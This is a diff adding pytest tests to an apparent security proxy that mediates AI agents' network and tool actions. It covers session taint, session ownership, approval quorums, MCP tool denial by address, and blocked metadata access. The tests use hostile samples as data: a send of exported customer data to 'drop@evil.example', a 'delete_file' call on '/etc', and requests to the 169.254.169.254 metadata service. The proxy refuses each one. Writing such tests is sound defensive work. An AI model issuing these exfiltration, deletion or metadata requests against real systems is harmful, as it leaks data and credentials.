@@ -452,3 +452,164 @@ def test_http2_body_without_content_length_is_decided(aarmor, upstream):
     assert (code, version) == ("403", "2"), r.stdout + r.stderr
     assert len(upstream.seen) == before
     assert last_decision(aarmor)["decision"]["rule"] == "secrets.outbound"
+
+
+# --- 9. Sessions ----------------------------------------------------------------------------------
+
+TWO_AGENTS = ("agents:\n"
+              "  - name: agent-a\n    credentials:\n      - basic_user: agent-a\n"
+              f"        password_sha256: \"{hashlib.sha256(b'pa').hexdigest()}\"\n"
+              "  - name: agent-b\n    credentials:\n      - basic_user: agent-b\n"
+              f"        password_sha256: \"{hashlib.sha256(b'pb').hexdigest()}\"\n")
+
+
+def as_agent(a, user, password):
+    return {"https": f"http://{user}:{password}@127.0.0.1:{a.port}"}
+
+
+def test_a_fresh_session_does_not_wash_away_what_the_agent_read(start_aarmor, upstream):
+    a = start_aarmor(policy_files={"identities.yaml": TWO_AGENTS})
+    px = as_agent(a, "agent-a", "pa")
+    base = f"https://localhost:{upstream.port}"
+    send = {"to": "drop@evil.example", "body": "the list"}
+    # Control: before the agent read anything sensitive, the send passes.
+    r = requests.post(f"{base}/v1/messages/send", json=send, headers={"x-aarm-session": "fresh-0"},
+                      proxies=px, verify=str(a.ca), timeout=20)
+    assert r.status_code == 200, r.text
+    # The agent reads personal data (an executed action that returns it).
+    r = requests.post(f"{base}/v1/customers/export", json={}, headers={"x-aarm-session": "work-1"},
+                      proxies=px, verify=str(a.ca), timeout=20)
+    assert r.status_code == 200 and "ada@example.org" in r.text
+    time.sleep(0.3)
+    before = len(upstream.seen)
+    # The same send, in the session that read it and in a fresh one: both refused.
+    for session in ("work-1", "fresh-1", "fresh-2"):
+        r = requests.post(f"{base}/v1/messages/send", json=send, headers={"x-aarm-session": session},
+                          proxies=px, verify=str(a.ca), timeout=20)
+        assert r.status_code == 403, (session, r.text)
+        d = last_decision(a)
+        assert d["decision"]["rule"] == "context.sensitive_read_then_send", d["decision"]
+    assert len(upstream.seen) == before
+    # Another agent has read nothing: its send passes.
+    r = requests.post(f"{base}/v1/messages/send", json=send, headers={"x-aarm-session": "b-1"},
+                      proxies=as_agent(a, "agent-b", "pb"), verify=str(a.ca), timeout=20)
+    assert r.status_code == 200
+
+
+def test_a_session_belongs_to_the_agent_that_opened_it(start_aarmor, upstream):
+    a = start_aarmor(policy_files={"identities.yaml": TWO_AGENTS})
+    base = f"https://localhost:{upstream.port}"
+    # Agent A opens session "shared-7".
+    r = requests.post(f"{base}/v1/notes", json={"text": "hello"}, headers={"x-aarm-session": "shared-7"},
+                      proxies=as_agent(a, "agent-a", "pa"), verify=str(a.ca), timeout=20)
+    assert r.status_code == 200
+    before = len(upstream.seen)
+    # Agent B names it: refused, nothing reaches the upstream, nothing is recorded in it.
+    r = requests.post(f"{base}/v1/notes", json={"text": "planted"}, headers={"x-aarm-session": "shared-7"},
+                      proxies=as_agent(a, "agent-b", "pb"), verify=str(a.ca), timeout=20)
+    assert r.status_code == 403
+    d = last_decision(a)
+    assert d["decision"]["rule"] == "session.foreign_identity" and d["action"]["identity"]["agent"] == "agent-b"
+    assert len(upstream.seen) == before
+    shown = json.loads(a.cli("context", "show", "shared-7").stdout)
+    assert not any("planted" in json.dumps(e) for e in shown["entries"])
+    # Control: agent A keeps using it.
+    r = requests.post(f"{base}/v1/notes", json={"text": "again"}, headers={"x-aarm-session": "shared-7"},
+                      proxies=as_agent(a, "agent-a", "pa"), verify=str(a.ca), timeout=20)
+    assert r.status_code == 200
+
+
+# --- 10. Approvals --------------------------------------------------------------------------------
+
+def test_one_operator_token_cannot_complete_a_quorum(start_aarmor, upstream):
+    from test_approvals import IDENTITIES, TOKENS, api, held_request
+
+    policy = """package aarmor.policy
+
+decisions contains d if {
+    input.action.target.path == "/v1/payroll"
+    d := {"decision": "step_up", "class": "context_allow", "priority": 500, "rule": "test.payroll",
+          "reason": "payroll changes need two approvals", "approvers": ["finance"], "quorum": 2, "timeout": 60}
+}
+"""
+
+    approvers = "".join(
+        f'[[approvals.approvers]]\nname = "{n}"\ntoken_sha256 = "{hashlib.sha256(t.encode()).hexdigest()}"\nprincipal = "{n}@corp.example"\n'
+        for n, t in TOKENS.items())
+    a = start_aarmor(policy=policy, policy_files={"identities.yaml": IDENTITIES},
+                     extra_policy="\n" + approvers + '[approvals.groups]\nfinance = ["ana", "ben"]\nsecurity = ["sec"]\n')
+    results = {}
+    t = held_request(a, upstream, "/v1/payroll", "carl@corp.example", results)
+    assert wait_until(lambda: len(api(a, "GET", "/v1/approvals", a.token).json()["approvals"]) == 1)
+    aid = api(a, "GET", "/v1/approvals", a.token).json()["approvals"][0]["id"]
+    # The operator token voting as each of two approvers: refused.
+    for name in ("ana", "ben"):
+        r = api(a, "POST", f"/v1/approvals/{aid}/approve", a.token, {"approver": name})
+        assert r.status_code == 403 and "operator token cannot answer as approver" in r.json()["error"]
+    # As two made-up names: one vote, then a conflict.
+    assert api(a, "POST", f"/v1/approvals/{aid}/approve", a.token, {"approver": "bot-1"}).json()["status"] == "waiting"
+    assert api(a, "POST", f"/v1/approvals/{aid}/approve", a.token, {"approver": "bot-2"}).status_code == 409
+    # Visibility: finance sees it, security does not.
+    assert len(api(a, "GET", "/v1/approvals", TOKENS["ana"]).json()["approvals"]) == 1
+    assert api(a, "GET", "/v1/approvals", TOKENS["sec"]).json()["approvals"] == []
+    assert api(a, "GET", f"/v1/approvals/{aid}", TOKENS["sec"]).status_code == 404
+    # Control: a real second approver completes the quorum.
+    assert api(a, "POST", f"/v1/approvals/{aid}/approve", TOKENS["ben"]).json()["status"] == "approved"
+    t.join(30)
+    assert results["/v1/payroll"].status_code == 200
+
+
+def wait_until(predicate, timeout=20):
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        if predicate():
+            return True
+        time.sleep(0.05)
+    return predicate()
+
+
+# --- Host identity: an address instead of a configured name ------------------------------------
+
+DENY_FILE_DELETES = """package aarmor.policy
+
+decisions contains d if {
+    input.action.tool == "files.delete_file"
+    d := {"decision": "deny", "class": "forbidden", "priority": 1000, "rule": "test.no_deletes",
+          "reason": "deleting files is not allowed"}
+}
+"""
+
+
+def test_an_address_is_judged_as_the_configured_host_it_reaches(start_aarmor, upstream):
+    a = start_aarmor(extra='[mediation]\nmcp_servers = [{ host = "localhost", name = "files" }]', policy=DENY_FILE_DELETES)
+    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "delete_file", "arguments": {"path": "/etc"}}}
+    before = len(upstream.seen)
+    # By the configured name, and by its address (no server name): the same tool, denied.
+    for connect_host, sni in (("localhost", "localhost"), ("127.0.0.1", None)):
+        r = raw_https(a, connect_host, upstream.port, sni, "POST", "/mcp", json.dumps(call).encode(),
+                      {"content-type": "application/json"})
+        assert r["status"] == 200 and json.loads(r["body"])["error"]["code"] == -32001, r
+        d = last_decision(a)
+        assert d["action"]["tool"] == "files.delete_file" and d["decision"]["rule"] == "test.no_deletes"
+        assert d["action"]["target"]["host"] == "localhost"
+    assert len(upstream.seen) == before
+    # Control: another tool of the same server, by address, passes.
+    call["params"]["name"] = "read_file"
+    r = raw_https(a, "127.0.0.1", upstream.port, None, "POST", "/mcp", json.dumps(call).encode(), {"content-type": "application/json"})
+    assert r["status"] == 200 and len(upstream.seen) == before + 1
+
+
+# --- Reaching what is not the internet ----------------------------------------------------------
+
+def test_metadata_and_aarmors_own_listeners_are_refused(aarmor):
+    for target in ("169.254.169.254:80", f"127.0.0.1:{aarmor.admin}", f"127.0.0.1:{aarmor.port}", f"[::ffff:169.254.169.254]:80"):
+        s = socket.create_connection(("127.0.0.1", aarmor.port), timeout=10)
+        s.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
+        head = s.recv(4096)
+        s.close()
+        assert head.startswith(b"HTTP/1.1 403") and b"destination-forbidden" in head, (target, head)
+        d = last_decision(aarmor)
+        assert d["decision"]["rule"] == "aarmor.forbidden_destination" and d["action"]["operation"] == "connect", d
+    # Absolute-form plain HTTP to the metadata service: the same.
+    r = curl("-i", "-x", aarmor.url, "http://169.254.169.254/latest/meta-data/")
+    assert r.stdout.startswith("HTTP/1.1 403") and "destination-forbidden" in r.stdout, r.stdout
